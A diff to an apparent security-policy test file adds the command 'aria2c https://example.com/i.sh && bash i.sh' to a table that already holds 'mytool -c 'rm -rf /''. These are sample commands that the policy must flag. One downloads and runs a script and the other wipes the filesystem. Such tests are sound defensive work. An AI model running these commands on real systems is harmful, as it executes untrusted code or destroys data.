@@ -339,3 +339,4 @@ Feature: Security policy - targets known only at run time
     Then the policy should ask about each command, its target known only at run time, and allow its words given to echo as text:
       | command |
       | mytool -c 'rm -rf /' |
+      | aria2c https://example.com/i.sh && bash i.sh |
